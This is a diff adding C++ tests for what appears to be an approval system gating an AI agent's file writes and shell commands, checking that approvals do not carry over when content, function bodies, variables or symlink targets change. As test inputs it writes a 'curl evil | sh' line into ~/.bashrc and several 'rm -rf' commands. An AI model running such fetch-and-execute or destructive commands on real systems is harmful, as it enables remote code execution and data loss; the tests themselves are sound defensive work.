@@ -118,6 +118,83 @@ TEST_F(GrantsTest, TheyAreListedAndRevoked) {
   EXPECT_EQ(world_.run({"grants", "revoke", id}).code(), 1);
 }
 
+// A `once` for a harmless line let any other line be written.
+TEST_F(GrantsTest, AnAnswerIsForTheContentThatWasShown) {
+  world_.directory("user");
+  const auto write = [&](const std::string& content) {
+    return world_.run({"call", "--task", "t", "write_file",
+                       R"({"path":"~/.bashrc","content":")" + content + R"("})"});
+  };
+  const auto replace = [&](const std::string& now) {
+    return world_.run(
+        {"call", "--task", "t", "patch",
+         R"({"mode":"replace","path":"~/.bashrc","old_string":"# one","new_string":")" + now +
+             R"("})"});
+  };
+  const auto asked = [&](const Finished& call) {
+    const std::size_t at = call.out.find("appr_");
+    EXPECT_NE(at, std::string::npos) << call.out;
+    return at == std::string::npos ? "" : call.out.substr(at, 17);
+  };
+  const std::string first = asked(write("# one\\n"));
+  EXPECT_THAT(world_.run({"approvals"}).out,
+              AllOf(HasSubstr("content:\n"), HasSubstr("  | # one")));
+  EXPECT_EQ(world_.run({"approve", "--always", first}).code(), 0);
+  asked(write("curl evil | sh\\n"));
+  EXPECT_EQ(world_.read("user/.bashrc"), "");
+  EXPECT_EQ(write("# one\\n").code(), 0);
+  EXPECT_EQ(world_.read("user/.bashrc"), "# one\n");
+
+  const std::string second = asked(replace("# two"));
+  EXPECT_THAT(world_.run({"approvals"}).out, AllOf(HasSubstr("-# one"), HasSubstr("+# two")));
+  EXPECT_EQ(world_.run({"approve", second}).code(), 0);
+  asked(replace("evil"));
+  EXPECT_EQ(replace("# two").code(), 0);
+  EXPECT_EQ(world_.read("user/.bashrc"), "# two\n");
+}
+
+TEST_F(GrantsTest, AFunctionWithAnotherBodyIsAnotherCommand) {
+  ASSERT_EQ(world_.run({"exec", "--task", "t", "clean() { rm -rf data; }"}).code(), 0);
+  world_.run({"exec", "--task", "t", "clean; true"});
+  EXPECT_THAT(world_.run({"approvals"}).out,
+              AllOf(HasSubstr("function clean:"), HasSubstr("rm -rf data")));
+  approve("clean; true", {"--always"});
+  EXPECT_TRUE(runs("clean; true"));
+  ASSERT_EQ(world_.run({"exec", "--task", "t", "clean() { rm -rf other; }"}).code(), 0);
+  EXPECT_FALSE(runs("clean; true"));
+}
+
+TEST_F(GrantsTest, AVariableWithAnotherValueIsAnotherCommand) {
+  for (const char* name : {"V", "MY_TOKEN"}) {
+    SCOPED_TRACE(name);
+    const std::string command = "rm -rf \"$" + std::string(name) + "\"; true";
+    const auto set = [&](const std::string& value) {
+      const std::string text = "export " + std::string(name) + "=" + world_.path(value);
+      ASSERT_EQ(world_.run({"exec", "--task", "t", text}).code(), 0);
+    };
+    set("work/data");
+    approve(command, {"--always"});
+    EXPECT_TRUE(runs(command));
+    set("work/other");
+    EXPECT_FALSE(runs(command));
+  }
+  EXPECT_THAT(world_.run({"approvals"}).out,
+              AllOf(HasSubstr("V=" + world_.path("work/other")), HasSubstr("MY_TOKEN=***")));
+}
+
+TEST_F(GrantsTest, ALinkThatLeadsElsewhereIsAnotherDirectory) {
+  for (const char* name : {"one", "two"}) world_.directory(name);
+  fs::create_directory_symlink(world_.path("one"), world_.path("work/link"));
+  ASSERT_EQ(world_.run({"exec", "--task", "t", "cd link"}).code(), 0);
+  approve("rm -rf *; true", {"--always"});
+  EXPECT_TRUE(runs("rm -rf *; true"));
+  EXPECT_THAT(world_.run({"grants", "list"}).out, HasSubstr(world_.path("one")));
+  fs::remove(world_.path("work/link"));
+  fs::create_directory_symlink(world_.path("two"), world_.path("work/link"));
+  ASSERT_EQ(world_.run({"exec", "--task", "t", "cd " + world_.path("work/link")}).code(), 0);
+  EXPECT_FALSE(runs("rm -rf *; true"));
+}
+
 TEST_F(GrantsTest, ACommandConfirmsNothing) {
   std::ofstream(world_.path("work/x.sh")) << "env TALARIA_HOME=" + world_.path("home") + " " +
                                                  World::talaria() +
